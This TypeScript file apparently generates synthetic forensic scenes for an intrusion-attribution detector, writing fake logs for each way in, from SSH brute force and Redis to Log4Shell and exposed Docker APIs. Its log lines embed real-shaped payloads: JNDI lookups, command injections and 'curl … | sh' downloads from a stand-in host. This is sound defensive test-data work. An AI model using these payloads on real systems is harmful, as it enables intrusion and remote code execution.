// How each way in looks on a made-up host: what its log says, what runs, what was left. Each gives what tells of it, so that the label knows when nothing does.
import { accepted, access, auth, failed, friend, request, stranger } from './noise.ts'
import { day, type Fate, minute, type Scene } from './scene.ts'

/** Whether anything still tells of the way in after everything that became of the records, and what else that might mean just as well. */
export type Way = (scene: Scene, fate: Fate) => { readonly told: boolean; readonly or?: readonly string[] }

const outside = (scene: Scene): string => `192.0.2.${scene.chance.between(10, 250)}`

/** Owner of what was dropped, by name; root once he became root. */
function dropsAs(scene: Scene, user: string, uid: number, place: string): void {
  scene.dropped = place
  scene.fileOwner = user === 'root' ? 0 : uid
}

function inSession(scene: Scene, address: string, port: number, uid: number): void {
  scene.origin = scene.chance.is(0.75)
    ? {
        cgroup: `/user.slice/user-${uid}.slice/session-${scene.chance.between(2, 99)}.scope`,
        environ: [`SSH_CONNECTION=${address} ${port} 10.1.0.5 22`],
        uid,
      }
    : { uid }
}

function sshWay(kind: 'guess' | 'password' | 'key' | 'inside' | 'friend'): Way {
  return (scene, fate) => {
    const { chance, entry } = scene
    const [user, uid] = chance.one([
      ['root', 0],
      ['deploy', 1000],
      ['alice', 1001],
    ] as const)
    const address = kind === 'inside' ? `10.1.0.${chance.between(6, 99)}` : kind === 'friend' ? friend : outside(scene)
    const port = chance.between(30000, 60000)
    if (kind === 'guess') {
      const many = chance.between(15, 400)
      for (let i = 0; i < many; i++)
        failed(scene, entry - (many - i) * chance.between(500, 4000), chance.one([user, user, 'admin']), address)
    }
    if (kind === 'friend') for (let d = 1; d < 9; d++) accepted(scene, entry - d * day, user, address, 'publickey')
    accepted(
      scene,
      entry,
      user,
      address,
      kind === 'key' || kind === 'friend' || (kind === 'inside' && chance.is(0.5)) ? 'publickey' : 'password',
      port,
    )
    dropsAs(scene, user, uid, user === 'root' ? '/root/.configrc7/a/kswapd0' : `/home/${user}/.x/xmrig`)
    inSession(scene, address, port, uid)
    scene.fate(auth, fate)
    const recorded = scene.tells(auth, entry)
    // A session without a record: nobody can say how it was let in.
    const or = recorded || kind === 'inside' ? [] : ['ssh-brute-force', 'stolen-password', 'stolen-key']
    return { told: recorded || (scene.alive && scene.origin.environ !== undefined), or }
  }
}

interface Service {
  readonly name: string
  readonly listen: string
  readonly argv?: string[]
  readonly user: string
  readonly uid: number
  readonly unit: string
  readonly place: string
  /** The lines it writes when it is abused; the path tells where. */
  readonly log: string
  write(scene: Scene, at: number): void
  /** What it leaves on the disk by itself. */
  readonly remains?: (scene: Scene) => void
  readonly environ?: string
}

function serviceWay(service: Service): Way {
  return (scene, fate) => {
    const { chance } = scene
    scene.serve(service.name, service.listen, service.argv)
    if (service.argv?.[0] === 'java') scene.serve('java', '', service.argv)
    if (service.unit.startsWith('php')) scene.serve('php-fpm8.2', '')
    service.write(scene, scene.entry)
    const asRoot = chance.is(0.35)
    dropsAs(scene, asRoot ? 'root' : service.user, service.uid, asRoot ? '/tmp/kdevtmpfsi' : service.place)
    const inherits = chance.is(0.7)
    if (inherits)
      scene.origin = {
        cgroup: `/system.slice/${service.unit}`,
        uid: scene.fileOwner,
        environ: service.environ === undefined ? [] : [service.environ],
      }
    const remains = service.remains !== undefined && chance.is(0.6)
    if (remains) service.remains?.(scene)
    scene.fate(service.log, fate)
    const recorded = scene.tells(service.log, scene.entry)
    const inherited = scene.alive && inherits
    // Pages and applications run under one account: its name alone does not tell them apart.
    const or = !recorded && !inherited && service.user === 'www-data' ? ['php', 'web-rce'] : []
    return { told: recorded || inherited || remains || !asRoot, or }
  }
}

const clock = (t: Date): string => t.toISOString().slice(0, 23).replace('T', ' ')
const short = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
const redisTime = (t: Date): string =>
  `${String(t.getUTCDate()).padStart(2, '0')} ${short[t.getUTCMonth()]} ${t.getUTCFullYear()} ${t.toISOString().slice(11, 23)}`

function web(name: string, unit: string, argv: string[], line: (scene: Scene) => string, status: number, agent?: string): Service {
  return {
    name,
    listen: '0.0.0.0:80',
    argv,
    user: 'www-data',
    uid: 33,
    unit,
    place: '/var/www/html/.cache/x',
    log: access,
    write: (scene, at) => request(scene, at, outside(scene), line(scene), status, agent),
  }
}

const webHoles: readonly Service[] = [
  web(
    'nginx',
    'tomcat9.service',
    ['java', '-Dcatalina.base=/var/lib/tomcat9'],
    () => 'GET /?x=a',
    200,
    `$${'{jndi:ldap://192.0.2.66:1389/Exploit}'}`,
  ),
  web('nginx', 'nginx.service', ['nginx'], () => 'GET /cgi-bin/ping.cgi?host=1.1.1.1;wget+http://192.0.2.66/a.sh+-O-|sh', 200),
  web('nginx', 'fcgiwrap.service', ['nginx'], () => 'GET /cgi-bin/diag?ip=$(curl+http://192.0.2.66/a.sh|bash)', 200),
  web('apache2', 'apache2.service', ['apache2'], () => 'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh', 200),
]
const phpHoles: readonly Service[] = [
  {
    ...web('nginx', 'php8.2-fpm.service', ['nginx'], () => 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 200),
    place: '/var/www/html/x',
  },
  {
    ...web('nginx', 'php8.2-fpm.service', ['nginx'], () => 'GET /ping.php?ip=1.1.1.1;wget+http://192.0.2.66/x.sh+-O-|sh', 200),
    place: '/var/www/html/x',
  },
]

export const services: Readonly<Record<string, (scene: Scene) => Service>> = {
  redis: () => ({
    name: 'redis-server',
    listen: '0.0.0.0:6379',
    user: 'redis',
    uid: 110,
    unit: 'redis-server.service',
    place: '/var/lib/redis/x',
    log: '/var/log/redis/redis-server.log',
    write(scene, at) {
      const say = (ms: number, text: string): void =>
        scene.log('/var/log/redis/redis-server.log', at + ms, t => `812:M ${redisTime(t)} * ${text}`)
      for (let d = 1; d < 15; d++) say(-d * day, 'DB saved on disk')
      const traces = [
        "REPLICAOF 192.0.2.66:21000 enabled (user request from 'id=8 addr=192.0.2.66:48184 laddr=10.1.0.5:6379 fd=9 name= age=0')",
        'Failed opening the RDB file root (in server root dir /var/spool/cron) for saving: Permission denied',
        "Module 'system' loaded from /tmp/exp_lin.so",
      ]
      say(0, scene.chance.one(traces))
      say(scene.anchor - at, 'DB saved on disk')
    },
    remains: scene => {
      const finding = scene.findings
      finding.push({
        ...scene.incident().findings[0],
        id: 'F-2',
        detector: 'persistence-downloads',
        about: ['autostart:user-crontab:/var/spool/cron/crontabs/root#2'],
        evidence: [
          {
            source: 'autostart',
            locator: '/var/spool/cron/crontabs/root:2',
            excerpt: 'REDIS0009\\xfa*/2 * * * * curl http://192.0.2.66/x|sh',
          },
        ],
      })
    },
  }),
  'web-rce': scene => scene.chance.one(webHoles),
  php: scene => scene.chance.one(phpHoles),
  postgresql: () => ({
    name: 'postgres',
    listen: '0.0.0.0:5432',
    user: 'postgres',
    uid: 111,
    unit: 'postgresql@15-main.service',
    place: '/var/lib/postgresql/15/main/x',
    log: '/var/log/postgresql/postgresql-15-main.log',
    write(scene, at) {
      const say = (ms: number, text: string): void =>
        scene.log(
          '/var/log/postgresql/postgresql-15-main.log',
          at + ms,
          t => `${clock(t)} UTC [${scene.chance.between(900, 9000)}] postgres@postgres ${text}`,
        )
      for (let d = 1; d < 12; d++) say(-d * day, 'LOG:  checkpoint complete: wrote 3 buffers')
      say(0, "LOG:  statement: COPY cmd_exec FROM PROGRAM 'curl http://192.0.2.66/pg.sh | bash'")
    },
  }),
  jenkins: () => ({
    ...web('jenkins', 'jenkins.service', ['java', '-jar', '/usr/share/java/jenkins.war'], () => 'POST /script', 200),
    listen: '0.0.0.0:8080',
    user: 'jenkins',
    uid: 112,
    place: '/var/lib/jenkins/x',
    environ: 'JENKINS_HOME=/var/lib/jenkins',
  }),
  confluence: () => ({
    ...web(
      'java',
      'confluence.service',
      ['java', '-Dcatalina.base=/opt/atlassian/confluence'],
      () =>
        'GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/',
      302,
    ),
    user: 'confluence',
    uid: 114,
    place: '/var/atlassian/application-data/confluence/x',
  }),
  activemq: () => ({
    name: 'java',
    listen: '0.0.0.0:61616',
    argv: ['java', '-Dactivemq.home=/opt/activemq', 'org.apache.activemq.broker'],
    user: 'activemq',
    uid: 115,
    unit: 'activemq.service',
    place: '/opt/activemq/tmp/x',
    log: '/opt/activemq/data/activemq.log',
    write(scene, at) {
      scene.log(
        '/opt/activemq/data/activemq.log',
        at - day,
        t => `${clock(t).replace('.', ',')} | INFO  | Apache ActiveMQ 5.15.3 started | org.apache.activemq.broker.BrokerService | main`,
      )
      scene.log(
        '/opt/activemq/data/activemq.log',
        at,
        t =>
          `${clock(t).replace('.', ',')} | WARN  | Loading XML bean definitions from URL [http://192.0.2.66/poc.xml] | org.springframework | ActiveMQ Transport`,
      )
    },
  }),
  'docker-api': () => ({
    name: 'dockerd',
    listen: '0.0.0.0:2375',
    user: 'root',
    uid: 0,
    unit: 'docker.service',
    place: '/tmp/x',
    log: '/var/lib/docker/containers/aa/config.v2.json',
    write(scene, at) {
      const id = 'ab'.repeat(32)
      scene.log('/var/lib/docker/containers/aa/config.v2.json', at, t =>
        JSON.stringify({
          StreamConfig: {},
          State: { Running: false, StartedAt: new Date(t.getTime() + 300).toISOString(), FinishedAt: '0001-01-01T00:00:00Z' },
          ID: id,
          Created: t.toISOString(),
          Path: 'chroot',
          Args: ['/mnt', '/bin/sh', '-c', 'curl -fsSL http://192.0.2.66/d.sh | sh'],
          Config: { Image: 'alpine', User: '' },
          Name: '/quirky',
        }),
      )
    },
  }),
  nextjs: () => ({
    name: 'next-server',
    listen: '0.0.0.0:3000',
    argv: ['next-server (v15.1.0)'],
    user: 'node',
    uid: 119,
    unit: 'umami.service',
    place: '/srv/umami/.next/x',
    log: '/root/.pm2/logs/app-error.log',
    environ: 'NEXT_RUNTIME=nodejs',
    write(scene, at) {
      scene.log(
        '/root/.pm2/logs/app-error.log',
        at - day,
        t => `${t.toISOString().slice(0, 19)}: [Error: Failed to fetch] { digest: '123456' }`,
      )
      scene.log(
        '/root/.pm2/logs/app-error.log',
        at,
        t => `${t.toISOString().slice(0, 19)}: Error: Command failed: curl http://192.0.2.66/sex.sh | bash`,
      )
    },
  }),
}

export const ways: Readonly<Record<string, Way>> = {
  'ssh-brute-force': sshWay('guess'),
  'stolen-password': sshWay('password'),
  'stolen-key': sshWay('key'),
  'lateral-movement': sshWay('inside'),
  insider: (scene, fate) => {
    const way = sshWay('friend')(scene, fate)
    return { ...way, told: way.told && scene.alive && scene.origin.environ !== undefined }
  },
  ...Object.fromEntries(Object.entries(services).map(([id, of]) => [id, (scene: Scene, fate: Fate) => serviceWay(of(scene))(scene, fate)])),
  'supply-chain': scene => {
    scene.serve('node', '127.0.0.1:3000', ['node', 'server.js'])
    dropsAs(scene, 'deploy', 1000, '/home/deploy/app/node_modules/evil-pkg/x')
    if (scene.chance.is(0.7))
      scene.origin = {
        cgroup: '/user.slice/user-1000.slice/session-4.scope',
        uid: 1000,
        environ: ['npm_lifecycle_event=postinstall', 'npm_package_name=evil-pkg'],
      }
    return { told: true }
  },
  'cloud-console': scene => {
    scene.serve('aliyun-service', '')
    scene.origin = {
      cgroup: '/system.slice/aliyun.service',
      uid: 0,
      ancestors: [{ pid: 900, name: 'aliyun-service', exe: '/usr/local/share/aliyun-assist/aliyun-service', uid: 0 }],
    }
    return { told: scene.alive }
  },
  // By a door of which no file of ours knows anything.
  unknown: (scene, fate) => {
    scene.serve('proftpd', '0.0.0.0:21')
    scene.fate(auth, fate)
    return { told: false }
  },
}

/** Services that are there and had nothing to do with it. */
export function decoys(scene: Scene, but: string): void {
  const { chance, entry } = scene
  if (but !== 'redis' && chance.is(0.4)) scene.serve('redis-server', '127.0.0.1:6379')
  if (but !== 'postgresql' && chance.is(0.3)) scene.serve('postgres', '127.0.0.1:5432')
  if (chance.is(0.5)) scene.serve('nginx', '0.0.0.0:80')
  if (chance.is(0.3))
    request(scene, entry - chance.between(1, 50) * minute, stranger(scene), `GET /?x=$${'{jndi:ldap://203.0.113.5/a}'}`, 404)
  if (chance.is(0.3)) accepted(scene, entry - chance.between(5, 200) * minute, 'deploy', friend, 'publickey')
  // Who came in by another door comes back by SSH later.
  if (chance.is(0.3)) accepted(scene, scene.anchor + chance.between(2, 100) * minute, 'root', outside(scene), 'publickey')
}
